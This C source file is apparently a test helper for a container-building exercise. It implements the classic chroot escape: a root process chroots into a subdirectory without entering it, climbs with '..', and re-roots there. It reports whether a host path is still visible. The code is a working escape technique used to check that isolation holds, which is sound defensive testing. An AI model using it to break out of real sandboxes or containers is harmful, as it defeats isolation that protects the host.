/* The classic way out of a chroot(2), run by the tests of step 06.
 *
 * chroot() changes where path lookups start, not where the process is: the current directory
 * stays outside the new root. A root process chroots into a subdirectory without entering
 * it, climbs with "..", and makes the place it reached its root again. After pivot_root and
 * the old root unmounted, the top of the climb is the container's own root.
 *
 * Usage: escape HOST-PATH  (prints "escaped" when HOST-PATH is visible after the climb) */
#include <stdio.h>
#include <sys/stat.h>
#include <unistd.h>

int main(int argc, char **argv) {
    if (argc != 2) {
        fprintf(stderr, "usage: %s HOST-PATH\n", argv[0]);
        return 2;
    }
    mkdir("/tmp/jail", 0755);
    if (chroot("/tmp/jail") != 0) { /* note: no chdir into it */
        perror("chroot /tmp/jail");
        return 2;
    }
    for (int i = 0; i < 64; i++) {
        if (chdir("..") != 0) {
            perror("chdir ..");
            return 2;
        }
    }
    if (chroot(".") != 0) {
        perror("chroot .");
        return 2;
    }
    puts(access(argv[1], F_OK) == 0 ? "escaped" : "contained");
    return 0;
}
